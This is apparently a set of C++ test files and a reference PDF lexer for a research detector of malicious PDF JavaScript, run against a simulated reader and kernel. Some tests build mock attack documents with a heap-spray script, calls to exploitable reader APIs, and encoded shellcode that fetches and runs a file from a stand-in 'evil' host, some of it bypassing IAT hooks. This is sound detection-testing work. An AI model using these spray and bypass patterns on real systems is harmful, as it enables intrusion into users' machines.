TEST(FrontEnd, PipelineTimingsAndStats) {
  sp::Rng rng(17);
  co::FrontEnd fe(rng, co::generate_detector_id(rng));
  pd::Document doc = doc_with_open_action_js("var v = 1;");
  co::FrontEndResult r = fe.process(pd::write_document(doc));
  ASSERT_TRUE(r.ok);
  EXPECT_TRUE(r.has_javascript);
  EXPECT_GT(r.parse_stats.indirect_objects, 0u);
  EXPECT_GE(r.timings.total_s(), 0.0);
  EXPECT_FALSE(r.output.empty());
  // Output parses and still carries exactly one JS site.
  pd::Document again = pd::parse_document(r.output);
  EXPECT_EQ(co::analyze_js_chains(again).sites.size(), 1u);
}

TEST(FrontEnd, RejectsNonPdfGracefully) {
  sp::Rng rng(18);
  co::FrontEnd fe(rng, co::generate_detector_id(rng));
  co::FrontEndResult r = fe.process(sp::to_bytes("not a pdf"));
  EXPECT_FALSE(r.ok);
  EXPECT_FALSE(r.error.empty());
}

TEST(Detector, EvidenceIsCappedWithExplicitOverflowMarker) {
  // A hostile script spamming forged SOAP messages must not balloon the
  // evidence trail: the cap ends it with an explicit marker and counts
  // everything shed past it.
  sy::Kernel kernel;
  sp::Rng rng(79);
  co::DetectorConfig cfg;
  cfg.max_evidence_entries = 3;
  co::RuntimeDetector detector(kernel, rng, cfg);
  rd::ReaderSim reader(kernel);
  detector.attach(reader);
  const auto key = co::generate_document_key(rng, detector.detector_id());
  detector.register_document(key, "spam.pdf", {});

  auto soap = [&](const std::string& op, const std::string& key_text) {
    auto payload = js::make_object();
    payload->set("op", js::Value(op));
    payload->set("key", js::Value(key_text));
    detector.handle_soap(js::Value(payload));
  };
  soap("enter", key.combined());  // authentic: spam.pdf is the active doc
  for (int i = 0; i < 10; ++i) {
    soap("exit", detector.detector_id() + "-0000000000000000");  // forged
  }

  const co::DocumentState* state = detector.state(key);
  ASSERT_NE(state, nullptr);
  ASSERT_EQ(state->evidence.size(), 4u);  // 3 entries + the marker
  EXPECT_EQ(state->evidence.back(),
            "[evidence overflow: further entries dropped]");
  EXPECT_EQ(state->evidence_overflow, 7u);
  EXPECT_TRUE(detector.verdict(key).malicious);  // conviction unaffected
}

TEST(Detector, DroppedFileListIsCapped) {
  sy::Kernel kernel;
  sp::Rng rng(80);
  co::DetectorConfig cfg;
  cfg.max_dropped_files = 2;
  co::RuntimeDetector detector(kernel, rng, cfg);
  rd::ReaderSim reader(kernel);
  detector.attach(reader);
  const auto key = co::generate_document_key(rng, detector.detector_id());
  detector.register_document(key, "dropper.pdf", {});

  auto payload = js::make_object();
  payload->set("op", js::Value("enter"));
  payload->set("key", js::Value(key.combined()));
  detector.handle_soap(js::Value(payload));
  for (int i = 0; i < 5; ++i) {
    kernel.call_api(reader.pid(), "NtCreateFile",
                    {"c:/drop" + std::to_string(i) + ".exe", "MZ"});
  }

  const co::DocumentState* state = detector.state(key);
  ASSERT_NE(state, nullptr);
  EXPECT_EQ(state->dropped_files.size(), 2u);
  EXPECT_EQ(state->dropped_files_overflow, 3u);
}
