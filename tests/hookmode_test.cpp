// Tests for the IAT-bypass arms race (§III-E): shellcode that resolves
// APIs directly (GetProcAddress / raw syscall) walks past IAT hooks — the
// evasion the paper acknowledges — while the kernel-mode hook option (its
// stated future hardening) still sees and confines everything.
#include <gtest/gtest.h>

#include "core/detector.hpp"
#include "core/pipeline.hpp"
#include "corpus/builders.hpp"
#include "reader/reader_sim.hpp"
#include "reader/shellcode.hpp"
#include "sys/kernel.hpp"

namespace co = pdfshield::core;
namespace cp = pdfshield::corpus;
namespace rd = pdfshield::reader;
namespace sy = pdfshield::sys;
namespace sp = pdfshield::support;

namespace {

struct ModeHarness {
  sy::Kernel kernel;
  sp::Rng rng;
  std::unique_ptr<co::RuntimeDetector> detector;
  std::unique_ptr<co::FrontEnd> frontend;
  std::unique_ptr<rd::ReaderSim> reader;

  explicit ModeHarness(co::DetectorConfig::HookMode mode) : rng(99) {
    co::DetectorConfig cfg;
    cfg.hook_mode = mode;
    detector = std::make_unique<co::RuntimeDetector>(kernel, rng, cfg);
    frontend = std::make_unique<co::FrontEnd>(rng, detector->detector_id());
    reader = std::make_unique<rd::ReaderSim>(kernel);
    detector->attach(*reader);
  }

  co::Verdict run_direct_call_dropper() {
    // Every shellcode op uses the '!' direct-call path, and the document
    // is mimicry-grade (padded, unobfuscated) so no static feature can
    // compensate for the missing syscall visibility.
    rd::ShellcodeProgram prog;
    prog.ops.push_back({"!DROP", {"http://evil/by.exe", "c:/by.exe"}});
    prog.ops.push_back({"!EXEC", {"c:/by.exe"}});
    cp::DocumentBuilder builder(rng);
    builder.add_pages(5, 600);
    builder.add_padding_objects(40);
    builder.set_open_action_js(
        "var unit = unescape('%u9090%u9090') + '" +
        rd::encode_shellcode(prog) + "';"
        "var spray = unit; while (spray.length < 2097152) spray += spray;"
        "var keep = spray; Collab.getIcon(keep.substring(0, 1500));");
    co::FrontEndResult fe = frontend->process(builder.build());
    detector->register_document(fe.record.key, "bypass.pdf", fe.features);
    reader->open_document(fe.output, "bypass.pdf");
    return detector->verdict(fe.record.key);
  }
};

}  // namespace

TEST(KernelVsIat, DirectCallsBypassIatHooksOnly) {
  sy::Kernel kernel;
  auto& proc = kernel.create_process("AcroRd32.exe");
  int iat_hits = 0, kernel_hits = 0;
  kernel.install_hook(proc.pid(), "NtCreateFile", [&](const sy::ApiEvent& e) {
    if (!e.post) ++iat_hits;
    return sy::ApiOutcome::kAllow;
  });
  kernel.install_kernel_hook("NtCreateFile", [&](const sy::ApiEvent& e) {
    if (!e.post) ++kernel_hits;
    return sy::ApiOutcome::kAllow;
  });

  kernel.call_api(proc.pid(), "NtCreateFile", {"a.txt", "x"});
  EXPECT_EQ(iat_hits, 1);
  EXPECT_EQ(kernel_hits, 1);

  kernel.call_api(proc.pid(), "NtCreateFile", {"b.txt", "x"},
                  sy::Kernel::CallPath::kDirect);
  EXPECT_EQ(iat_hits, 1) << "direct call must not touch the import table";
  EXPECT_EQ(kernel_hits, 2) << "kernel hook sees every caller";
}

TEST(KernelVsIat, KernelHooksCanVetoDirectCalls) {
  sy::Kernel kernel;
  auto& proc = kernel.create_process("AcroRd32.exe");
  kernel.install_kernel_hook("CreateRemoteThread", [](const sy::ApiEvent&) {
    return sy::ApiOutcome::kBlock;
  });
  auto& victim = kernel.create_process("explorer.exe");
  auto r = kernel.call_api(proc.pid(), "CreateRemoteThread",
                           {std::to_string(victim.pid()), "evil.dll"},
                           sy::Kernel::CallPath::kDirect);
  EXPECT_FALSE(r.allowed);
  EXPECT_TRUE(victim.injected_dlls().empty());
}

TEST(KernelVsIat, IatDetectorMissesDirectCallShellcode) {
  // The documented gap: with IAT hooks, direct-call shellcode executes
  // its drop+exec without the detector seeing the syscalls. (The spray is
  // still visible via SOAP memory checks — one feature, under threshold.)
  ModeHarness h(co::DetectorConfig::HookMode::kIat);
  const co::Verdict v = h.run_direct_call_dropper();
  EXPECT_FALSE(v.malicious) << "IAT mode should miss pure direct-call attacks";
  // The attack actually succeeded: the payload runs un-confined.
  bool escaped_payload = false;
  for (const auto& [pid, proc] : h.kernel.processes()) {
    if (proc->image() == "c:/by.exe" && !proc->sandboxed()) escaped_payload = true;
  }
  EXPECT_TRUE(escaped_payload);
}

TEST(KernelVsIat, KernelModeDetectorCatchesDirectCallShellcode) {
  ModeHarness h(co::DetectorConfig::HookMode::kKernelMode);
  const co::Verdict v = h.run_direct_call_dropper();
  EXPECT_TRUE(v.malicious) << "kernel hooks must close the bypass";
  EXPECT_TRUE(h.kernel.fs().exists("quarantine://c:/by.exe"));
  for (const auto& [pid, proc] : h.kernel.processes()) {
    if (proc->image() == "c:/by.exe") {
      EXPECT_TRUE(proc->sandboxed());
      EXPECT_TRUE(proc->terminated());
    }
  }
}

TEST(KernelVsIat, KernelModeStillZeroFalsePositiveOnBenign) {
  ModeHarness h(co::DetectorConfig::HookMode::kKernelMode);
  cp::DocumentBuilder builder(h.rng);
  builder.add_pages(2, 400);
  builder.set_open_action_js("var total = 1 + 2 + 3;");
  co::FrontEndResult fe = h.frontend->process(builder.build());
  h.detector->register_document(fe.record.key, "benign.pdf", fe.features);
  h.reader->open_document(fe.output, "benign.pdf");
  EXPECT_FALSE(h.detector->verdict(fe.record.key).malicious);
}

TEST(KernelVsIat, MixedShellcodeStillConvictsUnderIat) {
  // Realistic malware mixes paths: one ordinary import call is enough for
  // the IAT detector to convict and confine the rest.
  ModeHarness h(co::DetectorConfig::HookMode::kIat);
  rd::ShellcodeProgram prog;
  prog.ops.push_back({"DROP", {"http://evil/mx.exe", "c:/mx.exe"}});  // via IAT
  prog.ops.push_back({"!EXEC", {"c:/mx.exe"}});                      // direct
  cp::DocumentBuilder builder(h.rng);
  builder.add_blank_page();
  builder.set_open_action_js(
      "var unit = unescape('%u9090%u9090') + '" +
      rd::encode_shellcode(prog) + "';"
      "var spray = unit; while (spray.length < 2097152) spray += spray;"
      "var keep = spray; this.media.newPlayer(null);");
  co::FrontEndResult fe = h.frontend->process(builder.build());
  h.detector->register_document(fe.record.key, "mixed.pdf", fe.features);
  h.reader->open_document(fe.output, "mixed.pdf");
  EXPECT_TRUE(h.detector->verdict(fe.record.key).malicious);
  // The drop was seen and the file quarantined on alert...
  EXPECT_TRUE(h.kernel.fs().exists("quarantine://c:/mx.exe"));
}
