// Reference scalar PDF lexer, retained for differential testing only.
//
// This is the pre-table-driven implementation the production lexer grew out
// of: per-character predicate calls (`is_pdf_whitespace`/`is_regular` on
// every byte), strtoll/strtod number conversion, and byte-at-a-time string
// scans. It is slow and simple — exactly what a differential oracle should
// be. The production lexer in src/pdf must produce an identical token
// stream (kind, offset, decoded bytes, numeric values) and identical
// ParseError diagnostics on every input, mirroring the inflate oracle in
// tests/reference_inflate.hpp.
#pragma once

#include <cstdint>
#include <cstdlib>
#include <memory>
#include <string>
#include <string_view>

#include "pdf/lexer.hpp"
#include "support/arena.hpp"
#include "support/bytes.hpp"
#include "support/error.hpp"

namespace pdfshield::reference {

using pdf::Token;
using pdf::TokenKind;
using support::ParseError;

inline bool ref_is_whitespace(std::uint8_t c) {
  return c == 0x00 || c == 0x09 || c == 0x0a || c == 0x0c || c == 0x0d ||
         c == 0x20;
}

inline bool ref_is_delimiter(std::uint8_t c) {
  return c == '(' || c == ')' || c == '<' || c == '>' || c == '[' ||
         c == ']' || c == '{' || c == '}' || c == '/' || c == '%';
}

inline bool ref_is_regular(std::uint8_t c) {
  return !ref_is_whitespace(c) && !ref_is_delimiter(c);
}

inline int ref_hex_value(std::uint8_t c) {
  if (c >= '0' && c <= '9') return c - '0';
  if (c >= 'a' && c <= 'f') return c - 'a' + 10;
  if (c >= 'A' && c <= 'F') return c - 'A' + 10;
  return -1;
}

/// Byte-at-a-time lexer with the exact pre-rewrite semantics. Decoded
/// token storage lives in a private arena owned by the lexer.
class Lexer {
 public:
  explicit Lexer(support::BytesView data, std::size_t start = 0)
      : data_(data), pos_(start) {}

  Token next() {
    skip_whitespace_and_comments();
    Token t;
    t.offset = pos_;
    if (eof()) {
      t.kind = TokenKind::kEof;
      return t;
    }
    const std::uint8_t c = at(pos_);
    if (c == '/') return lex_name();
    if (c == '(') return lex_literal_string();
    if (c == '<') return lex_hex_string_or_dict_open();
    if (c == '>') {
      if (pos_ + 1 < data_.size() && at(pos_ + 1) == '>') {
        pos_ += 2;
        t.kind = TokenKind::kDictClose;
        return t;
      }
      throw ParseError("stray '>' in input");
    }
    if (c == '[') {
      ++pos_;
      t.kind = TokenKind::kArrayOpen;
      return t;
    }
    if (c == ']') {
      ++pos_;
      t.kind = TokenKind::kArrayClose;
      return t;
    }
    if (c == '{' || c == '}') {
      t.kind = TokenKind::kKeyword;
      t.text = support::as_view(data_).substr(pos_, 1);
      ++pos_;
      return t;
    }
    if (c == '+' || c == '-' || c == '.' || (c >= '0' && c <= '9')) {
      return lex_number();
    }
    if (ref_is_regular(c)) return lex_keyword();
    throw ParseError("unexpected byte 0x" + std::to_string(c));
  }

  std::size_t position() const { return pos_; }

 private:
  void skip_whitespace_and_comments() {
    while (!eof()) {
      const std::uint8_t c = at(pos_);
      if (ref_is_whitespace(c)) {
        ++pos_;
      } else if (c == '%') {
        while (!eof() && at(pos_) != '\n' && at(pos_) != '\r') ++pos_;
      } else {
        return;
      }
    }
  }

  Token lex_number() {
    Token t;
    t.offset = pos_;
    const std::size_t start = pos_;
    bool is_real = false;
    if (at(pos_) == '+' || at(pos_) == '-') ++pos_;
    while (!eof() && ((at(pos_) >= '0' && at(pos_) <= '9') || at(pos_) == '.')) {
      if (at(pos_) == '.') is_real = true;
      ++pos_;
    }
    const std::string_view text =
        support::as_view(data_).substr(start, pos_ - start);
    if (text.empty() || text == "+" || text == "-" || text == ".") {
      throw ParseError("malformed number at offset " + std::to_string(start));
    }
    const std::string copy(text);  // NUL termination for strtod/strtoll
    if (is_real) {
      t.kind = TokenKind::kReal;
      t.real_value = std::strtod(copy.c_str(), nullptr);
    } else {
      t.kind = TokenKind::kInteger;
      t.int_value = std::strtoll(copy.c_str(), nullptr, 10);
    }
    return t;
  }

  Token lex_name() {
    Token t;
    t.offset = pos_;
    t.kind = TokenKind::kName;
    const std::size_t slash = pos_;
    ++pos_;  // skip '/'
    const std::size_t start = pos_;
    bool escaped = false;
    while (!eof() && ref_is_regular(at(pos_))) {
      if (at(pos_) == '#' && pos_ + 2 < data_.size() &&
          ref_hex_value(at(pos_ + 1)) >= 0 && ref_hex_value(at(pos_ + 2)) >= 0) {
        escaped = true;
        pos_ += 3;
      } else {
        ++pos_;
      }
    }
    const std::string_view span =
        support::as_view(data_).substr(start, pos_ - start);
    if (!escaped) {
      t.text = span;
      return t;
    }
    auto* buf = static_cast<char*>(arena_.allocate(span.size(), 1));
    std::size_t n = 0;
    for (std::size_t i = 0; i < span.size();) {
      const auto c = static_cast<std::uint8_t>(span[i]);
      if (c == '#' && i + 2 < span.size()) {
        const int hi = ref_hex_value(static_cast<std::uint8_t>(span[i + 1]));
        const int lo = ref_hex_value(static_cast<std::uint8_t>(span[i + 2]));
        if (hi >= 0 && lo >= 0) {
          buf[n++] = static_cast<char>((hi << 4) | lo);
          i += 3;
          continue;
        }
      }
      buf[n++] = static_cast<char>(c);
      ++i;
    }
    t.text = {buf, n};
    t.raw = support::as_view(data_).substr(slash, pos_ - slash);
    return t;
  }

  Token lex_literal_string() {
    Token t;
    t.offset = pos_;
    t.kind = TokenKind::kString;
    ++pos_;  // skip '('
    const std::size_t content = pos_;
    std::size_t close = std::string_view::npos;
    {
      int depth = 1;
      bool has_escape = false;
      bool ends_in_backslash = false;
      std::size_t i = content;
      while (i < data_.size()) {
        const std::uint8_t c = data_[i++];
        if (c == '\\') {
          has_escape = true;
          if (i < data_.size()) {
            ++i;
          } else {
            ends_in_backslash = true;
          }
          continue;
        }
        if (c == '(') {
          ++depth;
        } else if (c == ')' && --depth == 0) {
          close = i;
          break;
        }
      }
      if (close == std::string_view::npos) {
        if (!has_escape) throw ParseError("unterminated literal string");
        pos_ = data_.size();
        throw ParseError(ends_in_backslash ? "string ends in backslash"
                                           : "unterminated literal string");
      }
      if (!has_escape) {
        t.bytes = data_.subspan(content, close - 1 - content);
        pos_ = close;
        return t;
      }
    }
    auto* out =
        static_cast<std::uint8_t*>(arena_.allocate(close - 1 - content, 1));
    std::size_t n = 0;
    int depth = 1;
    while (!eof()) {
      std::uint8_t c = at(pos_++);
      if (c == '\\') {
        if (eof()) throw ParseError("string ends in backslash");
        const std::uint8_t e = at(pos_++);
        switch (e) {
          case 'n': out[n++] = '\n'; break;
          case 'r': out[n++] = '\r'; break;
          case 't': out[n++] = '\t'; break;
          case 'b': out[n++] = '\b'; break;
          case 'f': out[n++] = '\f'; break;
          case '(': out[n++] = '('; break;
          case ')': out[n++] = ')'; break;
          case '\\': out[n++] = '\\'; break;
          case '\r':
            if (!eof() && at(pos_) == '\n') ++pos_;
            break;
          case '\n':
            break;
          default:
            if (e >= '0' && e <= '7') {
              int v = e - '0';
              for (int k = 0;
                   k < 2 && !eof() && at(pos_) >= '0' && at(pos_) <= '7'; ++k) {
                v = v * 8 + (at(pos_++) - '0');
              }
              out[n++] = static_cast<std::uint8_t>(v & 0xff);
            } else {
              out[n++] = e;
            }
        }
        continue;
      }
      if (c == '(') {
        ++depth;
        out[n++] = c;
      } else if (c == ')') {
        if (--depth == 0) {
          t.bytes = {out, n};
          return t;
        }
        out[n++] = c;
      } else {
        out[n++] = c;
      }
    }
    throw ParseError("unterminated literal string");
  }

  Token lex_hex_string_or_dict_open() {
    Token t;
    t.offset = pos_;
    if (pos_ + 1 < data_.size() && at(pos_ + 1) == '<') {
      pos_ += 2;
      t.kind = TokenKind::kDictOpen;
      return t;
    }
    ++pos_;  // skip '<'
    t.kind = TokenKind::kString;
    t.hex_string = true;
    std::size_t digits = 0;
    for (std::size_t i = pos_;; ++i) {
      if (i >= data_.size()) {
        pos_ = i;
        throw ParseError("unterminated hex string");
      }
      const std::uint8_t c = at(i);
      if (c == '>') break;
      if (ref_is_whitespace(c)) continue;
      if (ref_hex_value(c) < 0) {
        pos_ = i + 1;
        throw ParseError("invalid character in hex string");
      }
      ++digits;
    }
    auto* out = static_cast<std::uint8_t*>(arena_.allocate(digits / 2 + 1, 1));
    std::size_t n = 0;
    int hi = -1;
    while (!eof()) {
      const std::uint8_t c = at(pos_++);
      if (c == '>') {
        if (hi >= 0) out[n++] = static_cast<std::uint8_t>(hi << 4);
        t.bytes = {out, n};
        return t;
      }
      if (ref_is_whitespace(c)) continue;
      const int v = ref_hex_value(c);
      if (v < 0) throw ParseError("invalid character in hex string");
      if (hi < 0) {
        hi = v;
      } else {
        out[n++] = static_cast<std::uint8_t>((hi << 4) | v);
        hi = -1;
      }
    }
    throw ParseError("unterminated hex string");
  }

  Token lex_keyword() {
    Token t;
    t.offset = pos_;
    t.kind = TokenKind::kKeyword;
    const std::size_t start = pos_;
    while (!eof() && ref_is_regular(at(pos_))) ++pos_;
    t.text = support::as_view(data_).substr(start, pos_ - start);
    return t;
  }

  std::uint8_t at(std::size_t i) const { return data_[i]; }
  bool eof() const { return pos_ >= data_.size(); }

  support::BytesView data_;
  std::size_t pos_ = 0;
  support::Arena arena_;
};

}  // namespace pdfshield::reference
