// Property sweep: the context monitoring wrapper must preserve the
// observable semantics of every benign script it wraps. Each case runs a
// script plain and wrapped (all envelope roles) in identical host
// environments and compares the resulting global.
#include <gtest/gtest.h>

#include "core/monitor_codegen.hpp"
#include "js/interp.hpp"

namespace co = pdfshield::core;
namespace js = pdfshield::js;
namespace sp = pdfshield::support;

namespace {

// Host environment with a SOAP stub (counts calls, returns ok).
struct Host {
  js::Interpreter interp;
  int soap_calls = 0;

  Host() {
    auto soap = js::make_object();
    soap->set("request",
              js::Value(js::make_native_function(
                  [this](js::Interpreter&, const js::Value&,
                         const std::vector<js::Value>&) {
                    ++soap_calls;
                    auto ok = js::make_object();
                    ok->set("status", js::Value("ok"));
                    return js::Value(ok);
                  })));
    interp.set_global("SOAP", js::Value(soap));
  }

  js::Value run(const std::string& src) {
    interp.run_source(src);
    js::Value* v = interp.globals()->lookup("probe");
    return v ? *v : js::Value();
  }
};

std::string describe(const js::Value& v, js::Interpreter& in) {
  return in.to_js_string(v);
}

}  // namespace

struct WrapCase {
  const char* script;
};

class WrapperSemantics
    : public ::testing::TestWithParam<std::tuple<WrapCase, int>> {};

TEST_P(WrapperSemantics, WrappedEqualsPlain) {
  const auto& [wcase, role_idx] = GetParam();
  const auto role = static_cast<co::EnvelopeRole>(role_idx);

  Host plain;
  const js::Value expected = plain.run(wcase.script);

  sp::Rng rng(static_cast<std::uint64_t>(role_idx) * 17 + 3);
  const co::InstrumentationKey key =
      co::generate_document_key(rng, co::generate_detector_id(rng));
  const std::string wrapped =
      co::generate_monitor_wrapper(wcase.script, key, role, rng);

  Host instrumented;
  const js::Value actual = instrumented.run(wrapped);

  EXPECT_EQ(describe(actual, instrumented.interp),
            describe(expected, plain.interp))
      << "script: " << wcase.script;

  // Envelope discipline: full = 2 SOAP messages, enter/exit = 1, middle = 0.
  const int expected_soap = role == co::EnvelopeRole::kFull     ? 2
                            : role == co::EnvelopeRole::kMiddle ? 0
                                                                : 1;
  EXPECT_EQ(instrumented.soap_calls, expected_soap);
  EXPECT_EQ(plain.soap_calls, 0);
}

INSTANTIATE_TEST_SUITE_P(
    ScriptsTimesRoles, WrapperSemantics,
    ::testing::Combine(
        ::testing::Values(
            WrapCase{"var probe = 6 * 7;"},
            WrapCase{"var probe = 'concat' + '-' + 'enation';"},
            WrapCase{"var t = 0; for (var i = 1; i <= 100; i++) t += i;"
                     " var probe = t;"},
            WrapCase{"function f(a) { return a * a; } var probe = f(12);"},
            WrapCase{"var a = [3, 1, 2]; a.sort(); var probe = a.join('');"},
            WrapCase{"var o = {x: {y: {z: 'deep'}}}; var probe = o.x.y.z;"},
            WrapCase{"var probe = unescape('%41%42') + '!';"},
            WrapCase{"var probe; try { throw 'err'; } catch (e) { probe ="
                     " 'caught:' + e; }"},
            WrapCase{"var s = 'seed'; while (s.length < 64) s += s;"
                     " var probe = s.length;"},
            WrapCase{"var probe = eval('1 + 2') * eval('3 + 4');"}),
        ::testing::Values(static_cast<int>(co::EnvelopeRole::kFull),
                          static_cast<int>(co::EnvelopeRole::kEnterOnly),
                          static_cast<int>(co::EnvelopeRole::kMiddle),
                          static_cast<int>(co::EnvelopeRole::kExitOnly))));

TEST(WrapperSemantics, ScriptExceptionsAreContainedButExitStillSent) {
  Host host;
  sp::Rng rng(55);
  const co::InstrumentationKey key =
      co::generate_document_key(rng, co::generate_detector_id(rng));
  const std::string wrapped = co::generate_monitor_wrapper(
      "throw 'unhandled';", key, co::EnvelopeRole::kFull, rng);
  EXPECT_NO_THROW(host.interp.run_source(wrapped));
  EXPECT_EQ(host.soap_calls, 2) << "epilogue must run despite the throw";
}

TEST(WrapperSemantics, WrapperSizeIsBoundedLinear) {
  // The wrapper adds a near-constant shell plus base64(payload) (~4/3 of
  // the script); guard against accidental quadratic blowup.
  sp::Rng rng(56);
  const co::InstrumentationKey key =
      co::generate_document_key(rng, co::generate_detector_id(rng));
  const std::string small(100, 'a');
  const std::string big(10000, 'a');
  const std::size_t small_len =
      co::generate_monitor_wrapper(small, key, co::EnvelopeRole::kFull, rng).size();
  const std::size_t big_len =
      co::generate_monitor_wrapper(big, key, co::EnvelopeRole::kFull, rng).size();
  EXPECT_LT(big_len, small_len + (big.size() * 3) / 2);
}
