// Agreement tests for the runtime-dispatched kernels: every SIMD variant
// must produce bit-identical results to the always-compiled scalar
// fallback on random buffers, at every size and alignment that crosses a
// block or vector-width boundary. `simd::override_level` pins the dispatch
// per check, so one binary exercises scalar, SSSE3 and AVX2 paths on a
// capable machine (and degrades to whatever the CPU offers elsewhere).
#include <gtest/gtest.h>

#include <string>
#include <vector>

#include "pdf/charclass.hpp"
#include "pdf/lexer.hpp"
#include "support/bytes.hpp"
#include "support/checksum.hpp"
#include "support/rng.hpp"
#include "support/simd.hpp"

namespace pdfshield {
namespace {

using support::Bytes;
using support::BytesView;
namespace simd = support::simd;

/// Levels available on this machine, scalar first.
std::vector<simd::Level> available_levels() {
  std::vector<simd::Level> levels = {simd::Level::kScalar};
  if (simd::detected_level() >= simd::Level::kSSSE3) {
    levels.push_back(simd::Level::kSSSE3);
  }
  if (simd::detected_level() >= simd::Level::kAVX2) {
    levels.push_back(simd::Level::kAVX2);
  }
  return levels;
}

/// Restores the pre-test dispatch level even if an assertion fails.
class LevelGuard {
 public:
  LevelGuard() : prev_(simd::active_level()) {}
  ~LevelGuard() { simd::override_level(prev_); }

 private:
  simd::Level prev_;
};

// Textbook bit-at-a-time models, used as ground truth for the scalar
// implementations (which in turn anchor the SIMD agreement checks).
std::uint32_t adler32_model(BytesView data, std::uint32_t seed) {
  std::uint32_t a = seed & 0xffff;
  std::uint32_t b = (seed >> 16) & 0xffff;
  for (std::uint8_t byte : data) {
    a = (a + byte) % 65521;
    b = (b + a) % 65521;
  }
  return (b << 16) | a;
}

std::uint32_t crc32_model(BytesView data, std::uint32_t seed) {
  std::uint32_t c = seed ^ 0xffffffffu;
  for (std::uint8_t byte : data) {
    c ^= byte;
    for (int k = 0; k < 8; ++k) {
      c = (c & 1) ? 0xedb88320u ^ (c >> 1) : c >> 1;
    }
  }
  return c ^ 0xffffffffu;
}

// Sizes straddling vector widths (16/32), the Adler block (5536/5552), and
// larger multi-block buffers.
const std::size_t kSizes[] = {0,    1,    2,    7,    8,     15,   16,
                              17,   31,   32,   33,   63,    64,   255,
                              5535, 5536, 5537, 5551, 5552,  5553, 11071,
                              11072, 16384, 65537};

TEST(SimdAgreementTest, Adler32AllLevelsAgree) {
  LevelGuard guard;
  support::Rng rng(0xADE1);
  Bytes buf(70000 + 3);
  for (auto& b : buf) b = static_cast<std::uint8_t>(rng.below(256));
  const std::uint32_t seeds[] = {1u, 0u, 0xffffffffu, 0x12345678u};
  for (std::size_t n : kSizes) {
    for (std::size_t align : {0u, 1u, 3u}) {
      const BytesView view(buf.data() + align, n);
      for (std::uint32_t seed : seeds) {
        simd::override_level(simd::Level::kScalar);
        const std::uint32_t scalar = support::adler32(view, seed);
        EXPECT_EQ(scalar, adler32_model(view, seed))
            << "scalar adler32 vs model, n=" << n;
        for (simd::Level level : available_levels()) {
          simd::override_level(level);
          EXPECT_EQ(support::adler32(view, seed), scalar)
              << "adler32 level " << static_cast<int>(level) << " n=" << n
              << " align=" << align << " seed=" << seed;
        }
      }
    }
  }
}

TEST(SimdAgreementTest, Crc32MatchesBitwiseModel) {
  // CRC32 is pure scalar slice-by-8 (no dispatch); pin it to the
  // bit-at-a-time model across sizes, alignments and seeds.
  support::Rng rng(0xC4C);
  Bytes buf(70000 + 3);
  for (auto& b : buf) b = static_cast<std::uint8_t>(rng.below(256));
  for (std::size_t n : kSizes) {
    for (std::size_t align : {0u, 1u, 3u}) {
      const BytesView view(buf.data() + align, n);
      EXPECT_EQ(support::crc32(view), crc32_model(view, 0)) << "n=" << n;
    }
  }
  EXPECT_EQ(support::crc32(BytesView(buf.data(), 100), 0xdeadbeefu),
            crc32_model(BytesView(buf.data(), 100), 0xdeadbeefu));
}

TEST(SimdAgreementTest, CharclassScannersAllLevelsAgree) {
  LevelGuard guard;
  support::Rng rng(0x5CA7);
  // Buffers biased toward long regular runs with occasional stop bytes, so
  // scans cross vector boundaries before hitting a terminator.
  std::string stops = "()<>[]{}/%\\";
  for (char c : {'\x00', '\x09', '\x0a', '\x0c', '\x0d', '\x20'}) {
    stops.push_back(c);
  }
  for (int round = 0; round < 400; ++round) {
    const std::size_t n = 1 + static_cast<std::size_t>(rng.below(200));
    Bytes buf(n);
    for (auto& b : buf) {
      if (rng.below(24) == 0) {
        b = static_cast<std::uint8_t>(
            stops[static_cast<std::size_t>(rng.below(stops.size()))]);
      } else if (rng.below(6) == 0) {
        b = static_cast<std::uint8_t>(0x80 + rng.below(128));  // high bytes
      } else {
        b = static_cast<std::uint8_t>('A' + rng.below(26));
      }
    }
    for (std::size_t from : {std::size_t{0}, std::size_t{16}}) {
      if (from > n) continue;
      simd::override_level(simd::Level::kScalar);
      const std::size_t run_s = pdf::scan_regular_run_long(buf.data(), n, from);
      const std::size_t str_s = pdf::scan_string_special(buf.data(), n);
      const std::size_t eol_s = pdf::scan_to_eol(buf.data(), n);
      for (simd::Level level : available_levels()) {
        simd::override_level(level);
        EXPECT_EQ(pdf::scan_regular_run_long(buf.data(), n, from), run_s)
            << "round " << round << " level " << static_cast<int>(level);
        EXPECT_EQ(pdf::scan_string_special(buf.data(), n), str_s)
            << "round " << round << " level " << static_cast<int>(level);
        EXPECT_EQ(pdf::scan_to_eol(buf.data(), n), eol_s)
            << "round " << round << " level " << static_cast<int>(level);
      }
    }
  }
}

TEST(SimdAgreementTest, CharClassTableMatchesPredicates) {
  // The table is the single source of truth for the lexer; pin every entry
  // against first-principles definitions of the PDF character classes.
  for (int i = 0; i < 256; ++i) {
    const auto c = static_cast<std::uint8_t>(i);
    const bool ws = c == 0x00 || c == 0x09 || c == 0x0a || c == 0x0c ||
                    c == 0x0d || c == 0x20;
    const bool delim = c == '(' || c == ')' || c == '<' || c == '>' ||
                       c == '[' || c == ']' || c == '{' || c == '}' ||
                       c == '/' || c == '%';
    const bool digit = c >= '0' && c <= '9';
    const bool hex = digit || (c >= 'a' && c <= 'f') || (c >= 'A' && c <= 'F');
    EXPECT_EQ(pdf::cc_has(c, pdf::kCcWhitespace), ws) << i;
    EXPECT_EQ(pdf::cc_has(c, pdf::kCcDelimiter), delim) << i;
    EXPECT_EQ(pdf::cc_has(c, pdf::kCcDigit), digit) << i;
    EXPECT_EQ(pdf::cc_has(c, pdf::kCcHexDigit), hex) << i;
    EXPECT_EQ(pdf::cc_has(c, pdf::kCcNumberStart),
              digit || c == '+' || c == '-' || c == '.')
        << i;
    EXPECT_EQ(pdf::cc_regular(c), !ws && !delim) << i;
    const int hv = digit ? c - '0'
                 : (c >= 'a' && c <= 'f') ? c - 'a' + 10
                 : (c >= 'A' && c <= 'F') ? c - 'A' + 10
                                          : -1;
    EXPECT_EQ(pdf::kHexValue[c], hv) << i;
    EXPECT_EQ(pdf::is_pdf_whitespace(c), ws) << i;
    EXPECT_EQ(pdf::is_pdf_delimiter(c), delim) << i;
  }
}

}  // namespace
}  // namespace pdfshield
