// Tests for the corpus generator: every sample parses, marginals track
// Table VI / Fig 6, and ground-truth behaviour (exploit / crash / noise)
// holds when samples meet the simulated reader.
#include <gtest/gtest.h>

#include "core/static_features.hpp"
#include "corpus/builders.hpp"
#include "corpus/generator.hpp"
#include "pdf/parser.hpp"
#include "reader/reader_sim.hpp"
#include "sys/kernel.hpp"

namespace co = pdfshield::core;
namespace cp = pdfshield::corpus;
